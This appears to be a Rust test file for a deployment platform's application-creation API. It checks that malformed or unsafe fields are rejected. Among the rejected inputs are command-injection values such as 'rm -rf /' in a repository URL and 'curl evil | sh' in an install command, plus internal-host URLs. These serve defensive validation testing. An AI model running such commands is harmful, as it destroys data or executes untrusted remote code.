//! Field types and formats on create: strict types, format rules, blank
//! strings, byte bounds, internal hosts, compose service domains.

use api_tests::deploy::{Team, creates::*};
use serde_json::{Value, json};

#[tokio::test]
async fn types_and_formats() {
    let t = Team::new().await;
    let before = count(&t).await;
    let long = "n".repeat(256);
    let table: Vec<(&str, Value, &str)> = vec![
        (
            "name",
            json!(long),
            "The name field must not be greater than 255 characters.",
        ),
        ("name", json!(7), "The name field must be a string."),
        (
            "build_pack",
            json!("rails"),
            "The selected build pack is invalid.",
        ),
        (
            "static_image",
            json!("apache:alpine"),
            "The selected static image is invalid.",
        ),
        (
            "redirect",
            json!("sometimes"),
            "The selected redirect is invalid.",
        ),
        (
            "ports_exposes",
            json!(3000),
            "The ports exposes field must be a string.",
        ),
        (
            "ports_exposes",
            json!("3000,abc"),
            "The ports exposes field format is invalid.",
        ),
        (
            "ports_exposes",
            json!("70000"),
            "The ports exposes field format is invalid.",
        ),
        (
            "ports_mappings",
            json!("8080"),
            "The ports mappings field format is invalid.",
        ),
        (
            "ports_mappings",
            json!("8080:80,8080:81"),
            "The first number before : should be unique between mappings.",
        ),
        (
            "is_static",
            json!("true"),
            "The is static field must be true or false.",
        ),
        (
            "is_static",
            json!(1),
            "The is static field must be true or false.",
        ),
        (
            "instant_deploy",
            json!("false"),
            "The instant deploy field must be true or false.",
        ),
        (
            "health_check_interval",
            json!("5"),
            "The health check interval field must be an integer.",
        ),
        (
            "health_check_interval",
            json!(1.5),
            "The health check interval field must be an integer.",
        ),
        (
            "health_check_interval",
            json!(0),
            "The health check interval field must be at least 1.",
        ),
        (
            "health_check_return_code",
            json!(700),
            "The health check return code field must not be greater than 599.",
        ),
        (
            "health_check_port",
            json!(8080),
            "The health check port field must be a string.",
        ),
        (
            "health_check_port",
            json!("99999"),
            "The health check port field must be a port number between 1 and 65535.",
        ),
        (
            "health_check_method",
            json!("DELETE"),
            "The selected health check method is invalid.",
        ),
        (
            "health_check_path",
            json!("/a b"),
            "The health check path field format is invalid.",
        ),
        (
            "limits_memory",
            json!("lots"),
            "The limits memory field format is invalid.",
        ),
        (
            "limits_memory_swappiness",
            json!(101),
            "The limits memory swappiness field must not be greater than 100.",
        ),
        (
            "limits_cpus",
            json!(2),
            "The limits cpus field must be a string.",
        ),
        (
            "git_repository",
            json!("https://github.com/a/b;rm -rf /"),
            "The git repository contains invalid characters.",
        ),
        (
            "git_repository",
            json!("https://localhost/a/b"),
            "The git repository cannot point to internal hosts.",
        ),
        (
            "git_repository",
            json!("https://10.1.2.3/a/b"),
            "The git repository cannot use IP addresses.",
        ),
        (
            "git_repository",
            json!("ssh://github.com/a/b"),
            "The git repository must start with https://, http://, git://, or git@.",
        ),
        (
            "git_branch",
            json!("main; reboot"),
            "The git branch contains invalid characters.",
        ),
        (
            "git_branch",
            json!("a..b"),
            "The git branch contains invalid characters.",
        ),
        (
            "install_command",
            json!("npm ci; curl evil | sh"),
            "The install command contains characters that are not allowed in a command.",
        ),
        (
            "base_directory",
            json!("app"),
            "The base directory field format is invalid.",
        ),
        (
            "docker_compose_domains",
            json!({"web": "https://a.io"}),
            "The docker compose domains field must be an array.",
        ),
        (
            "use_build_server",
            json!("yes"),
            "The use build server field must be true or false.",
        ),
    ];
    for (field, value, message) in &table {
        let r = t
            .post(
                "/applications/public",
                with(t.public(json!({})), field, value.clone()),
            )
            .await;
        assert_eq!(r.status, 400, "{field}={value}: {:?}", r.body);
        let got = r.body["errors"][field][0].as_str().unwrap_or_default();
        assert!(
            got.starts_with(message),
            "{field}={value}: {got:?} should start with {message:?}"
        );
    }
    assert_eq!(count(&t).await, before, "no failed create wrote anything");
    // Nullable fields take null; valid values of every kind pass.
    let ok = t.public(json!({
        "use_build_server": null, "redirect": null, "health_check_port": "8080",
        "ports_mappings": "8080:80,8443:443", "limits_memory": "512m", "limits_cpus": "1.5",
        "health_check_interval": 30, "install_command": "npm ci && npm run build",
        "git_commit_sha": "a1b2c3", "base_directory": "/app", "name": "n".repeat(255),
    }));
    let r = t.post("/applications/public", ok).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
}

#[tokio::test]
async fn blank_strings_mean_not_given() {
    let t = Team::new().await;
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"name": "  ", "git_commit_sha": "", "destination_uuid": "", "description": "", "instant_deploy": true})),
        )
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let uuid = r.body["uuid"].as_str().unwrap();
    let app = t.get(&format!("/applications/{uuid}")).await.body;
    assert!(
        app["name"]
            .as_str()
            .unwrap()
            .starts_with("coolify-examples:main-"),
        "{}",
        app["name"]
    );
    assert_eq!(app["git_commit_sha"], "HEAD");
    assert_eq!(app["description"], Value::Null);
    let d = t
        .get(&format!(
            "/deployments/{}",
            r.body["deployment_uuid"].as_str().unwrap()
        ))
        .await;
    assert_eq!((d.status, d.body["commit"].as_str()), (200, Some("HEAD")));
    // PATCH with a blank name keeps the name; the list still reads.
    let r = t
        .patch(&format!("/applications/{uuid}"), json!({"name": ""}))
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body["name"], app["name"]);
    assert_eq!(t.get("/applications").await.status, 200);
    // Blank required fields are missing ones.
    let r = t
        .post("/applications/public", t.public(json!({"git_branch": " "})))
        .await;
    assert_eq!(
        r.body["errors"]["git_branch"],
        json!(["This field is required."])
    );
}

#[tokio::test]
async fn odd_texts_and_hosts() {
    let t = Team::new().await;
    // Multi-byte text before EXPOSE: no trouble finding the port.
    let body = t.body(json!({"dockerfile": "FROM nginx\n# ééé été\nEXPOSE\t8080\n", "autogenerate_domain": false}));
    let r = t.post("/applications/dockerfile", body).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let app = t
        .get(&format!(
            "/applications/{}",
            r.body["uuid"].as_str().unwrap()
        ))
        .await
        .body;
    assert_eq!(app["ports_exposes"], "8080");
    // Texts are bounded in bytes.
    let huge = "😀".repeat(40_000);
    let r = t
        .post(
            "/applications/dockerfile",
            t.body(json!({"dockerfile": format!("FROM x\n#{huge}")})),
        )
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body["message"]);
    assert!(
        r.body["errors"]["dockerfile"][0]
            .as_str()
            .unwrap()
            .contains("bytes")
    );
    // Texts whose stored form (control characters escaped) would not fit a record.
    let r = t
        .post(
            "/applications/dockerfile",
            t.body(json!({"dockerfile": format!("FROM x\n{}", "\u{1}".repeat(70_000))})),
        )
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body["message"]);
    assert!(r.message().contains("fit in one record"), "{:?}", r.body);
    // At most 20 compose service entries.
    let many: Vec<Value> = (0..21).map(|i| json!({"name": format!("s{i}")})).collect();
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"build_pack": "dockercompose", "docker_compose_domains": many})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.body["errors"]["docker_compose_domains"].is_array());
    // A server's wildcard domain must make one valid URL.
    let r = t
        .post("/servers", json!({"name": "w", "ip": "203.0.113.8", "private_key_uuid": t.key, "wildcard_domain": "https://apps.example.com/a,b"}))
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body);
    assert!(r.body["errors"]["wildcard_domain"].is_array());
    // Domains whose encoded form would be too long for a key.
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"domains": format!("https://a.io/{}", "{".repeat(600))})),
        )
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body["message"]);
    // Internal hosts in every spelling.
    for repo in [
        "https://localhost./a/b",
        "https://x.localhost/a/b",
        "git@localhost:a/b.git",
        "git@10.0.0.1:a/b.git",
    ] {
        let r = t
            .post(
                "/applications/public",
                t.public(json!({"git_repository": repo})),
            )
            .await;
        assert_eq!(r.status, 400, "{repo}");
        assert!(r.body["errors"]["git_repository"].is_array(), "{repo}");
    }
    // A git create under another build pack takes compose service domains
    // as Coolify does: validated, stored and claimed; a PATCH that keeps
    // the build pack keeps them, and only a compose app's PATCH sets them.
    let r = t
        .post(
            "/applications/public",
            t.public(
                json!({"docker_compose_domains": [{"name": "web", "domain": "https://kept.io"}]}),
            ),
        )
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let kept = format!("/applications/{}", r.body["uuid"].as_str().unwrap());
    let r = t.patch(&kept, json!({"name": "renamed"})).await;
    assert_eq!(r.status, 200, "{:?}", r.body);
    let app = t.get(&kept).await.body;
    assert_eq!(app["build_pack"], "nixpacks");
    assert_eq!(
        app["docker_compose_domains"],
        json!("{\"web\":{\"domain\":\"https://kept.io\"}}")
    );
    let r = t.post("/applications/dockerimage", t.body(json!({"docker_registry_image_name": "nginx", "ports_exposes": "80", "domains": "https://kept.io"}))).await;
    assert_eq!(r.status, 409, "stored service domains are claimed");
    let r = t
        .patch(
            &kept,
            json!({"docker_compose_domains": [{"name": "web", "domain": "https://x.io"}]}),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.body["errors"]["docker_compose_domains"].is_array());
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"docker_compose_domains": [{"name": "web", "domain": "ftp://w.io"}]})),
        )
        .await;
    assert_eq!(r.status, 400, "still validated: {:?}", r.body);
    assert!(r.body["errors"]["docker_compose_domains"].is_array());
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"build_pack": "dockercompose", "docker_compose_domains": [{"name": "web", "domain": "https://w.io"}]})),
        )
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let app = t
        .get(&format!(
            "/applications/{}",
            r.body["uuid"].as_str().unwrap()
        ))
        .await
        .body;
    assert_eq!(
        app["docker_compose_domains"],
        json!("{\"web\":{\"domain\":\"https://w.io\"}}")
    );
    let r = t.post("/applications/dockerimage", t.body(json!({"docker_registry_image_name": "nginx", "ports_exposes": "80", "domains": "https://w.io"}))).await;
    assert_eq!(r.status, 409, "compose service domains are claimed");
}
